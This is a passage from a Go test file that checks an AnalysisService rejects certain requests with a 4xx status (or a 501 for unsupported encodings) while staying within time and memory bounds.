			alloc := (after.TotalAlloc - before.TotalAlloc) >> 20
			t.Logf("%d %.200s in %v, %d MiB allocated", res.StatusCode, b, took.Round(time.Millisecond), alloc)
			// An unsupported Content-Encoding is 501 unimplemented by the
			// Connect protocol; the AnalysisService accepts no compression.
			if (res.StatusCode < 400 || res.StatusCode >= 500) && !(c.enc != "" && res.StatusCode == 501) {
				t.Errorf("status %d, want a 4xx", res.StatusCode)
			}
			if took > c.within {
				t.Errorf("took %v, bound %v", took, c.within)
			}
			if alloc > 256 {
				t.Errorf("%d MiB allocated for one request", alloc)
			}
		})
	}
}
